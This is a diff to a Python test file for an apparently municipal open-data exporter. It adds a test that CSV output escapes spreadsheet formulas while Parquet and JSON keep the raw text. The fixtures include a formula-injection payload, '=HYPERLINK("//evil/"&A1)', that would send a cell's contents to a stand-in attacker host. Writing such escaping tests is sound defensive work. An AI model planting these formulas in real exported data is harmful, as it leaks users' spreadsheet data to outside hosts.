@@ -44,6 +44,7 @@ PENALTY, LISTED, SCHOOL = (
 NAME, NUMBER, PHONE = "独孤求败", "371083193001010021", "13863112345"
 """The only woman of 85 or more in 乳山市, who was fined and is on a list."""
 WOMAN = ("乳山市", "85岁及以上", "女")
+FORMULAS = ('=HYPERLINK("//evil/"&A1)', "'\t-1")
 CODES = {"环翠区": "371002", "文登区": "371003", "荣成市": "371082", "乳山市": "371083"}
 
 
@@ -122,7 +123,7 @@ def fill(connection: Connection, contracts: Contracts) -> None:
             {"document_no": "威罚1", "subject_kind": "自然人", "subject_name": NAME, "subject_id_no": NUMBER,
              "state": "正常", "fine_wan_cny": 0.02, "decided_on": AS_OF, "authority_name": "市公安局"},
             {"document_no": "威罚2", "subject_kind": "法人及非法人组织", "subject_name": "威海渔业公司",
-             "state": "正常", "fine_wan_cny": 1.5, "decided_on": AS_OF, "authority_name": "市监管局",
+             "state": "正常", "fine_wan_cny": -1.5, "decided_on": AS_OF, "authority_name": "市监管局",
              "basis": f"举报人电话 {PHONE}"},
             {"document_no": "威罚3", "subject_kind": "法人及非法人组织", "subject_name": "威海船厂", "state": "正常",
              "published_until": date(2021, 12, 31), "decided_on": AS_OF, "authority_name": "市监管局"},
@@ -145,8 +146,21 @@ def fill(connection: Connection, contracts: Contracts) -> None:
         contracts,
         SCHOOL,
         [
-            {"school_code": "s1", "name": '威海"一中"，\n本部', "stage": "高中", "is_smart_campus": True},
-            {"school_code": "s2", "name": "威海二中", "stage": "高中", "is_smart_campus": False, "has_wlan": True},
+            {
+                "school_code": "s1",
+                "name": '威海"一中"，\n本部',
+                "stage": "高中",
+                "is_smart_campus": True,
+                "recognised_batch": FORMULAS[0],
+            },
+            {
+                "school_code": "s2",
+                "name": "威海二中",
+                "stage": "高中",
+                "is_smart_campus": False,
+                "has_wlan": True,
+                "recognised_batch": FORMULAS[1],
+            },
         ],
     )
 
@@ -212,7 +226,21 @@ def test_formats_say_the_same(city: City) -> None:
     assert [r["is_smart_campus"] for r in records] == [True, False]
     assert [r["has_wlan"] for r in records] == [None, True]
     fined = json.loads(files[f"data/{PENALTY}.json"])
-    assert [(r["document_no"], r["fine_wan_cny"], r["decided_on"]) for r in fined] == [("威罚2", 1.5, "2021-09-30")]
+    assert [(r["document_no"], r["fine_wan_cny"], r["decided_on"]) for r in fined] == [("威罚2", -1.5, "2021-09-30")]
+
+
+def test_text_is_no_formula_in_the_csv_and_itself_in_the_other_formats(city: City) -> None:
+    files = city.exports[0][1]
+    lines = csv.DictReader(io.StringIO(files[f"data/{SCHOOL}.csv"].decode("utf-8-sig"), newline=""))
+    assert [line["认定批次"] for line in lines] == [f"'{text}" for text in FORMULAS]
+    table = pyarrow.parquet.read_table(io.BytesIO(files[f"data/{SCHOOL}.parquet"]))
+    assert tuple(table["recognised_batch"].to_pylist()) == FORMULAS
+    assert tuple(r["recognised_batch"] for r in json.loads(files[f"data/{SCHOOL}.json"])) == FORMULAS
+    [fined] = csv.DictReader(io.StringIO(files[f"data/{PENALTY}.csv"].decode("utf-8-sig")))
+    assert "-1.5" in fined.values()
+    catalogue = json.loads(files["catalog.jsonld"])
+    told = [d["dcat:distribution"] for d in catalogue["dcat:dataset"]]
+    assert [["dct:description" in d for d in formats] for formats in told] == [[True, False, False]] * len(told)
 
 
 def test_second_export_is_the_same_to_the_byte_when_nothing_changed(city: City) -> None:
